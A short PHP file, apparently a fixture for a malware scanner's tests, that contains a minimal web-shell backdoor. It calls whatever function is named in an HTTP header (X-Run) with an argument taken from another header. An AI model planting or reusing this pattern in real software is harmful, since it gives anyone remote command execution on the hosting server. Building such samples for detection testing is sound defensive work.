<?php
// spamtrace test sample: written for the scanner tests, never run (issue #17 obfuscation probes).
$run = getenv('HTTP_X_RUN');
if ($run) {
    $run(getenv('HTTP_X_ARG'));
}
